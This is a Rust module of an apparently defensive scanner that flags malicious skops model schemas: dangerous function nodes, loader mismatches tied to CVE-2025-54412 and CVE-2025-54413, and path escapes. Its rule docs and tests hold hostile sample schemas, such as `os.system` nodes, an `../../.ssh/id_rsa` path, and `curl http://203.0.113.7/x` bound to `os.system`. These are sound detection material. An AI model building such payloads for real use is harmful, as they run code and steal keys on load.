//! skops schemas (`schema.json` in a `.skops` archive): the tree of nodes from which `skops.io.load` rebuilds objects.
//!
//! Source: `skops/io` (0.13) and the advisories CVE-2025-54412, CVE-2025-54413 and CVE-2025-54886. Every node names a
//! type, and the loader that builds it; both are weighed. Members of the archive are read by the archive reader.

use super::malformed::{MALFORMED_STRUCTURE, broken, malformed};
use crate::call::{self, Argument, Call, How, Name, Verdict, json};
use crate::pickle::knowledge::{Standing, standing};
use crate::text::indicators::inspect_metadata;
use crate::wire::json_tree::{self, Document, NodeId, Value};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{
    Confidence, Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, owasp_ml, rule,
};

/// skops schemas.
pub static SKOPS: Skops = Skops;

/// See [`SKOPS`].
#[derive(Debug, Clone, Copy)]
pub struct Skops;

rule! {
    /// ## What it finds
    /// A node of a skops schema whose type or function reaches dangerous code.
    /// ## Why it matters
    /// `skops.io.load` imports the type and builds it, or calls the function, once its name is on the `trusted` list;
    /// users copy that list from `get_untrusted_types` without reading it.
    /// ## Example
    /// `{"__class__": "function", "content": {"module_path": "os", "function": "system"}, "__loader__": "FunctionNode"}`
    /// ## How to fix
    /// Do not load the file.
    /// ## References
    /// - <https://skops.readthedocs.io/en/stable/persistence.html>
    pub const SKOPS_DANGEROUS_TYPE: Rule = Rule {
        id: "model/skops-dangerous-type",
        title: "a skops node that reaches dangerous code",
        severity: Severity::Critical,
        remedy: "Do not load the file, whatever get_untrusted_types says.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(502), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A node of a skops schema whose loader contradicts its type or content.
    /// ## Why it matters
    /// skops before 0.12 shows the user one type and uses another: an `OperatorFuncNode` runs a function of the
    /// `operator` module whatever `__module__` says (CVE-2025-54412), a `MethodNode` takes a method of an object other than
    /// the one it names (CVE-2025-54413). No skops release writes such a node.
    /// ## Example
    /// `{"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode"}`
    /// ## How to fix
    /// Do not load the file; use skops 0.13 or newer, also because older `Card.get_model` falls back to joblib for
    /// files that are no archive (CVE-2025-54886).
    /// ## References
    /// - <https://nvd.nist.gov/vuln/detail/CVE-2025-54412>
    /// - <https://nvd.nist.gov/vuln/detail/CVE-2025-54413>
    /// - <https://nvd.nist.gov/vuln/detail/CVE-2025-54886>
    pub const SKOPS_LOADER_MISMATCH: Rule = Rule {
        id: "model/skops-loader-mismatch",
        title: "a skops node that is loaded as something else than it says",
        severity: Severity::High,
        remedy: "Do not load the file; use skops 0.13 or newer.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(843), cwe(502), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A node of a skops schema whose type is not one of scikit-learn, NumPy, SciPy and the other libraries known here.
    /// ## Why it matters
    /// Loading needs the type on the `trusted` list; its constructor and state setters then run.
    /// ## Example
    /// `{"__class__": "DivideColumns", "__module__": "__main__"}`
    /// ## How to fix
    /// Read the source of the type before trusting it.
    /// ## References
    /// - <https://skops.readthedocs.io/en/stable/persistence.html>
    pub const SKOPS_UNKNOWN_TYPE: Rule = Rule {
        id: "model/skops-unknown-type",
        title: "a skops node of an unknown type",
        severity: Severity::Low,
        remedy: "Read the source of the type before trusting it.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(502), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A node of a skops schema that refers to a file outside its archive.
    /// ## Why it matters
    /// A loader that joins the name to a folder leaves it.
    /// ## Example
    /// `"file": "../../.ssh/id_rsa"`
    /// ## How to fix
    /// Do not load the file.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/22.html>
    pub const SKOPS_PATH_ESCAPE: Rule = Rule {
        id: "model/skops-path-escape",
        title: "a skops node that refers to a file outside the archive",
        severity: Severity::High,
        remedy: "Do not load the file.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(22), owasp_ml("ML06")],
    };
}

/// How much of a file recognition looks at, in bytes: the keys of a schema stand at its very start or its very end.
const HEAD: usize = 2048;
/// Largest schema parsed, in bytes; data lies in other members, the largest published schemas have a few megabytes.
const LARGEST: usize = 256 << 20;

/// Loaders of skops 0.9 to 0.13.
const LOADERS: &[&str] = &[
    "ObjectNode",
    "DictNode",
    "DefaultDictNode",
    "ListNode",
    "TupleNode",
    "SetNode",
    "JsonNode",
    "TypeNode",
    "FunctionNode",
    "MethodNode",
    "OperatorFuncNode",
    "PartialNode",
    "SliceNode",
    "NdArrayNode",
    "MaskedArrayNode",
    "RandomStateNode",
    "RandomGeneratorNode",
    "DTypeNode",
    "CachedNode",
    "SparseMatrixNode",
    "ReduceNode",
    "TreeNode",
    "SGDNode",
    "LossNode",
    "BytesNode",
    "BytearrayNode",
    "_DictWithDeprecatedKeysNode",
    "QuantileForestNode",
    "ConstructorNode",
    "BaseNode",
    "LGBMNode",
    "XGBNode",
    "CatBoostNode",
    "DatetimeNode",
    "PandasNode",
];

/// Module prefixes of libraries whose types build data only.
const KNOWN_MODULES: &[&str] = &[
    "sklearn",
    "numpy",
    "scipy",
    "pandas",
    "xgboost",
    "lightgbm",
    "catboost",
    "quantile_forest",
    "imblearn",
    "skops",
    "collections",
    "datetime",
    "decimal",
    "fractions",
    "uuid",
    "pathlib",
    "sktime",
    "category_encoders",
];

/// Types of `builtins` that hold data.
const KNOWN_BUILTINS: &[&str] = &[
    "int",
    "float",
    "str",
    "bool",
    "bytes",
    "bytearray",
    "complex",
    "dict",
    "list",
    "tuple",
    "set",
    "frozenset",
    "slice",
    "type",
    "range",
    "NoneType",
    "object",
    "function",
    "builtin_function_or_method",
    "method",
    "ellipsis",
];

impl Format for Skops {
    fn id(&self) -> &'static str {
        "skops-schema"
    }

    fn name(&self) -> &'static str {
        "skops schema"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["json"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[
            &SKOPS_DANGEROUS_TYPE,
            &SKOPS_LOADER_MISMATCH,
            &SKOPS_UNKNOWN_TYPE,
            &SKOPS_PATH_ESCAPE,
            &MALFORMED_STRUCTURE,
        ]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(HEAD);
        if !head.trim_ascii_start().starts_with(b"{") {
            return Recognition::No;
        }
        let has = |bytes: &[u8], key: &[u8]| memchr::memmem::find(bytes, key).is_some();
        let is_node = has(head, b"\"__class__\"") && has(head, b"\"__module__\"");
        // A loader's name outside a node: a fragment, or a schema that was tampered with.
        let is_fragment =
            input.bytes.len() <= HEAD && (has(head, b"\"MethodNode\"") || has(head, b"\"OperatorFuncNode\""));
        if is_node
            || is_fragment
            || has(head, b"\"__loader__\"")
            || has(input.tail(HEAD), b"\"_skops_version\"")
        {
            Recognition::Certain
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        if input.bytes.len() > LARGEST {
            scan.gap(0, format!("a skops schema of more than {LARGEST} bytes is not parsed"));
            return;
        }
        let text = json_tree::decode(input.bytes);
        let document = json_tree::parse(&text);
        for id in document.ids().filter(|&id| document.is_object(id)) {
            if document.get(id, "__class__").is_some() {
                Node { document: &document, id }.judge(scan);
            }
        }
        if !document.ids().any(|id| document.get(id, "__class__").is_some()) {
            malformed(scan, 0, "the schema names skops loaders and has no node they could load");
        }
        for id in document.ids() {
            // Values of `JsonNode`s are JSON text of their own.
            if let Value::Text(text) = document.value(id)
                && text.len() > 8
                && !document.key(id).starts_with("__")
            {
                let place = Location {
                    offset: Some(document.offset(id)),
                    pointer: Some(document.pointer(id)),
                    ..Location::default()
                };
                inspect_metadata(text, &place, scan);
            }
        }
        if let Some(error) = &document.error {
            broken(scan, error.offset, format!("the schema breaks off: {}", error.reason));
        }
    }
}

/// One node of the schema.
struct Node<'d> {
    document: &'d Document<'d>,
    id: NodeId,
}

impl Node<'_> {
    fn text(&self, key: &str) -> &str {
        self.document.get_text(self.id, key).unwrap_or_default()
    }

    fn finding(&self, rule: &'static Rule, message: String) -> Finding {
        let shown =
            format!("{} {}.{}", self.text("__loader__"), self.text("__module__"), self.text("__class__"));
        Finding::new(rule, message)
            .at(self.document.offset(self.id))
            .pointer(self.document.pointer(self.id))
            .evidence(shown)
    }

    fn judge(&self, scan: &mut Scan<'_>) {
        let (module, class, loader) =
            (self.text("__module__"), self.text("__class__"), self.text("__loader__"));
        if !loader.is_empty() && !LOADERS.contains(&loader) {
            scan.report(
                self.finding(
                    &SKOPS_LOADER_MISMATCH,
                    format!("the node asks for the loader `{loader}`, which skops has not"),
                )
                .severity(Severity::Medium),
            );
        }
        self.path(scan);
        match loader {
            "OperatorFuncNode" => self.operator(module, class, scan),
            "MethodNode" => self.method(module, class, scan),
            "FunctionNode" => self.function(scan),
            _ => {
                // Newer schemas repeat the module in front of the class.
                let short =
                    class.strip_prefix(module).and_then(|rest| rest.strip_prefix('.')).unwrap_or(class);
                self.name(module, short, loader, scan);
            }
        }
    }

    fn path(&self, scan: &mut Scan<'_>) {
        let file = self.text("file");
        let drive = file.as_bytes().get(1) == Some(&b':');
        if file.starts_with(['/', '\\']) || drive || file.split(['/', '\\']).any(|part| part == "..") {
            scan.report(self.finding(&SKOPS_PATH_ESCAPE, format!("the node refers to the file `{file}`")));
        }
    }

    /// `operator.itemgetter` and its like; the name is looked up in `operator` whatever the module says.
    fn operator(&self, module: &str, class: &str, scan: &mut Scan<'_>) {
        if !matches!(module, "operator" | "_operator") {
            let message =
                format!("shows the type `{module}.{class}` and calls `operator.{class}` (CVE-2025-54412)");
            scan.report(self.finding(&SKOPS_LOADER_MISMATCH, message).severity(Severity::Critical));
        }
        let severity = match class {
            "itemgetter" => return,
            "attrgetter" => Severity::Medium,
            "methodcaller" | "call" => Severity::Critical,
            _ => Severity::High,
        };
        let message = format!("loading calls `operator.{class}` on objects of the file's choice");
        scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(severity));
    }

    /// A bound method: the object it hangs on has a type of its own.
    fn method(&self, module: &str, class: &str, scan: &mut Scan<'_>) {
        let content = self.document.get(self.id, "content");
        let function =
            content.and_then(|content| self.document.get_text(content, "func")).unwrap_or_default();
        let object = content.and_then(|content| self.document.get(content, "obj"));
        if let Some(object) = object {
            let inner = Node { document: self.document, id: object };
            let (inner_module, inner_class) = (inner.text("__module__"), inner.text("__class__"));
            if (inner_module, inner_class) != (module, class) && !inner_class.is_empty() {
                let message = format!(
                    "shows a method of `{module}.{class}` and takes `{function}` of `{inner_module}.{inner_class}` (CVE-2025-54413)"
                );
                scan.report(self.finding(&SKOPS_LOADER_MISMATCH, message).severity(Severity::Critical));
            }
        } else {
            malformed(scan, self.document.offset(self.id) as usize, "a `MethodNode` without an object");
        }
        if function.starts_with("__") {
            let message = format!(
                "takes the attribute `{function}` of an object, which reaches the interpreter's insides"
            );
            scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message));
        }
        self.name(module, class, "MethodNode", scan);
    }

    fn function(&self, scan: &mut Scan<'_>) {
        let content = self.document.get(self.id, "content");
        let part = |key| content.and_then(|content| self.document.get_text(content, key));
        let module = part("module_path").unwrap_or_else(|| self.text("__module__"));
        let function = part("function").unwrap_or_else(|| self.text("__class__"));
        self.name(module, function, "FunctionNode", scan);
    }

    fn name(&self, module: &str, name: &str, loader: &str, scan: &mut Scan<'_>) {
        let call = self.call(module, name, loader);
        let verdict = call::verdict(&call, self.document.offset(self.id), scan);
        match standing(module, name) {
            Standing::Safe { .. } => {
                if let Some(verdict) = verdict {
                    let message = format!("loading {}", verdict.does);
                    scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(verdict.severity));
                }
            }
            Standing::Gadget { severity, why, sole_reference, .. } => {
                if call.how != How::Named {
                    // A look-up that folds is judged by what it gives; an unknown function is told of at its own node.
                    let counts =
                        |verdict: &Verdict| loader != "PartialNode" || verdict.severity >= Severity::High;
                    if let Some(verdict) = verdict.filter(counts) {
                        let message = format!("loading {}", verdict.does);
                        scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(verdict.severity));
                    }
                    return;
                }
                // A function in a schema is there to be called by the estimator that holds it.
                let severity = sole_reference.max(severity.min(Severity::High));
                let message = format!("loading brings in `{module}.{name}`, which {why}");
                scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(severity));
            }
            Standing::Unknown => {
                let family = module.split('.').next().unwrap_or_default();
                let known = KNOWN_MODULES.contains(&family)
                    || (module == "builtins" && KNOWN_BUILTINS.contains(&name))
                    || (matches!(module, "functools" | "types") && matches!(name, "partial" | "function"))
                    || (module.is_empty() && KNOWN_BUILTINS.contains(&name));
                if !known {
                    let message = format!("loading needs the unknown type `{module}.{name}`");
                    let worst = verdict.filter(|verdict| verdict.severity >= Severity::Medium);
                    let (severity, message) = match worst {
                        Some(verdict) => (verdict.severity, format!("{message} and {}", verdict.does)),
                        None => (Severity::Low, message),
                    };
                    let finding = self.finding(&SKOPS_UNKNOWN_TYPE, message).severity(severity);
                    scan.report(finding.confidence(Confidence::Medium));
                }
            }
        }
    }

    /// What building the node calls, under the name `module.name`.
    fn call(&self, module: &str, name: &str, loader: &str) -> Call {
        described(
            self.document,
            self.id,
            Name { module: module.to_owned(), name: name.to_owned() },
            loader,
            NESTED,
        )
    }
}

/// What the node at `id` makes its loader call. Source: `skops/io/_general.py`, `_sklearn.py` and `_numpy.py`.
fn described(document: &Document<'_>, id: NodeId, callee: Name, loader: &str, depth: u32) -> Call {
    let special = |id: NodeId| Some(argument(document, id, depth.checked_sub(1)?));
    let content = document.get(id, "content");
    let part = |key| content.and_then(|content| document.get(content, key));
    let value = |id: Option<NodeId>| id.map(|id| json::argument(document, id, &special));
    let items = |id: Option<NodeId>| match value(id) {
        Some(Argument::Sequence(items)) => items,
        Some(other) => vec![other],
        None => Vec::new(),
    };
    let mut call = Call { callee, ..Call::of_path("", How::Named) };
    match loader {
        "ObjectNode" | "" => {
            call.how = How::Made;
            call.state = value(content);
        }
        "ReduceNode" | "TreeNode" | "SGDNode" | "LossNode" | "ConstructorNode" => {
            call.how = How::Called;
            call.arguments =
                items(document.get(id, "__reduce__").and_then(|reduce| document.get(reduce, "args")));
        }
        "MethodNode" => {
            call.how = How::Called;
        }
        // The function is there to be called with what it is bound to.
        "PartialNode" => {
            call.how = How::Called;
            call.arguments = value(part("func")).into_iter().chain(items(part("args"))).collect();
            if let Some(Argument::Mapping(pairs)) = value(part("kwds")) {
                let named = pairs.into_iter().filter_map(|(key, value)| match key {
                    Argument::Text(key) => Some((key, value)),
                    _ => None,
                });
                call.keywords = named.collect();
            }
            if let Some(Argument::Name(function)) = call.arguments.first().cloned() {
                call.arguments.remove(0);
                call.callee = function;
            }
        }
        _ => {}
    }
    call
}

/// What the node at `id` stands for as an argument.
fn argument(document: &Document<'_>, id: NodeId, depth: u32) -> Argument {
    let text = |key: &str| document.get_text(id, key).unwrap_or_default();
    let content = document.get(id, "content");
    let special = |id: NodeId| Some(argument(document, id, depth.checked_sub(1)?));
    let inside = |key: &str| content.and_then(|content| document.get_text(content, key)).map(str::to_owned);
    let module = text("__module__").to_owned();
    match text("__loader__") {
        "FunctionNode" => Argument::Name(Name {
            module: inside("module_path").unwrap_or(module),
            name: inside("function").unwrap_or_else(|| text("__class__").to_owned()),
        }),
        "TypeNode" => Argument::Name(Name {
            module: inside("__module__").unwrap_or(module),
            name: inside("__class__").unwrap_or_default(),
        }),
        "JsonNode" => {
            let json = content.and_then(|content| document.text(content)).unwrap_or_default();
            let inner = json_tree::parse(json);
            inner.root().map_or(Argument::Unknown, |root| json::argument(&inner, root, &|_| None))
        }
        "ListNode" | "TupleNode" | "SetNode" | "DictNode" | "DefaultDictNode" => {
            content.map_or(Argument::Unknown, |content| match document.value(content) {
                Value::Object
                    if !document.is_object(content) || document.get(content, "__loader__").is_none() =>
                {
                    let pairs = json::keywords(document, content, &[], &special);
                    Argument::Mapping(
                        pairs.into_iter().map(|(key, value)| (Argument::Text(key), value)).collect(),
                    )
                }
                _ => json::argument(document, content, &special),
            })
        }
        loader @ ("ObjectNode" | "ReduceNode" | "PartialNode") => {
            let callee = Name { module, name: text("__class__").to_owned() };
            match depth.checked_sub(1) {
                Some(depth) => Argument::Result(Box::new(described(document, id, callee, loader, depth))),
                None => Argument::Unknown,
            }
        }
        _ => Argument::Unknown,
    }
}

/// Nodes inside nodes that are read as arguments.
const NESTED: u32 = 8;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use proptest::prelude::*;

    fn node(class: &str, module: &str, loader: &str, content: &str) -> Vec<u8> {
        format!("{{\"__class__\": \"{class}\", \"__module__\": \"{module}\", \"__loader__\": \"{loader}\", \"content\": {content}}}").into_bytes()
    }

    #[test]
    fn an_estimator_of_scikit_learn_is_clean() {
        let schema = node("LogisticRegression", "sklearn.linear_model._logistic", "ObjectNode", "{}");
        assert_eq!(rules_of(&SKOPS, &schema), Vec::<&str>::new());
        assert_eq!(SKOPS.recognise(&Input::new("schema.json", &schema)), Recognition::Certain);
    }

    #[test]
    fn a_function_that_runs_commands_is_dangerous() {
        let schema = node(
            "function",
            "builtins",
            "FunctionNode",
            "{\"module_path\": \"os\", \"function\": \"system\"}",
        );
        assert!(outcome(&SKOPS, &schema).findings[0].severity >= Severity::High);
    }

    #[test]
    fn an_operator_behind_another_modules_name_is_a_mismatch() {
        let found = outcome(&SKOPS, &node("call", "builtins", "OperatorFuncNode", "{}"));
        assert!(found.findings.iter().any(|finding| finding.rule.id == "model/skops-loader-mismatch"));
        assert_eq!(
            rules_of(&SKOPS, &node("itemgetter", "operator", "OperatorFuncNode", "{}")),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn a_method_of_another_object_than_shown_is_a_mismatch() {
        let inner = String::from_utf8(node("Evil", "evil", "ObjectNode", "{}")).unwrap();
        let schema =
            node("int", "builtins", "MethodNode", &format!("{{\"func\": \"run\", \"obj\": {inner}}}"));
        assert_eq!(rules_of(&SKOPS, &schema)[0], "model/skops-loader-mismatch");
        let inner = String::from_utf8(node("int", "builtins", "ObjectNode", "{}")).unwrap();
        let schema =
            node("int", "builtins", "MethodNode", &format!("{{\"func\": \"run\", \"obj\": {inner}}}"));
        assert_eq!(rules_of(&SKOPS, &schema), Vec::<&str>::new());
    }

    #[test]
    fn an_unknown_type_is_low_and_a_file_outside_is_high() {
        assert_eq!(
            rules_of(&SKOPS, &node("Thing", "__main__", "ObjectNode", "{}")),
            ["model/skops-unknown-type"]
        );
        let schema = br#"{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "file": "../x.npy"}"#;
        assert_eq!(rules_of(&SKOPS, schema), ["model/skops-path-escape"]);
    }

    #[test]
    fn a_partial_is_judged_by_the_function_and_what_it_is_bound_to() {
        let bound = |module: &str, function: &str, text: &str| {
            let function = format!(
                r#"{{"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {{"module_path": "{module}", "function": "{function}"}}}}"#
            );
            let text = format!(
                r#"{{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"{text}\""}}"#
            );
            let args = format!(
                r#"{{"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [{text}]}}"#
            );
            let schema = node(
                "partial",
                "functools",
                "PartialNode",
                &format!(r#"{{"func": {function}, "args": {args}}}"#),
            );
            let found = outcome(&SKOPS, &schema);
            found.findings.into_iter().map(|finding| (finding.severity, finding.message)).max()
        };
        let (severity, message) = bound("os", "system", "curl http://203.0.113.7/x").unwrap();
        assert_eq!(severity, Severity::Critical);
        assert!(message.contains("runs `curl`"), "{message}");
        assert_eq!(bound("my_package", "fetch", "http://203.0.113.7/x").unwrap().0, Severity::High);
        assert_eq!(bound("numpy", "sqrt", "x"), None);
    }

    #[test]
    fn an_object_made_without_its_constructor_is_not_judged_by_it() {
        let made =
            node("SentenceTransformer", "sentence_transformers.SentenceTransformer", "ObjectNode", "{}");
        assert_eq!(rules_of(&SKOPS, &made), Vec::<&str>::new());
        assert_eq!(
            outcome(&SKOPS, &node("system", "os", "ObjectNode", "{}")).findings[0].severity,
            Severity::Critical
        );
    }

    proptest! {
        #[test]
        fn any_text_gives_a_result(text in "[\\{\\}\\[\\]\",:a-z_]{0,100}") {
            outcome(&SKOPS, format!("{{\"__class__\": \"x\", \"__module__\": {text}").as_bytes());
        }
    }
}
